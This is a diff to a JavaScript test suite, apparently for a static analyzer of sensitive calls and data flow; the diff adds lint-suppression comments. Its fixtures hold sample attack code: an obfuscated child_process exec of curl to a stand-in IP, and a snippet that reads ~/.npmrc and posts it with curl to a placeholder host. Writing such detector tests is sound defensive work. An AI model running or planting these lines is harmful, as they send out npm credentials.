@@ -114,6 +114,7 @@ describe('sensitive calls', () => {
 
   it('records folded first arguments', () => {
     const [call] = ofKind(
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source under test
       run("require('child_process').exec('cu' + 'rl ' + `http://${'203.0.113.9'}:8000/x`)").facts,
       'call',
     );
@@ -295,6 +296,7 @@ describe('data flow', () => {
           "const fs = require('fs'), os = require('os'), path = require('path');",
           "const cp = require('child_process');",
           "const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
+          // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source under test
           'cp.exec(`curl -d ${npmrc} https://x.invalid`);',
         ].join('\n'),
       ),
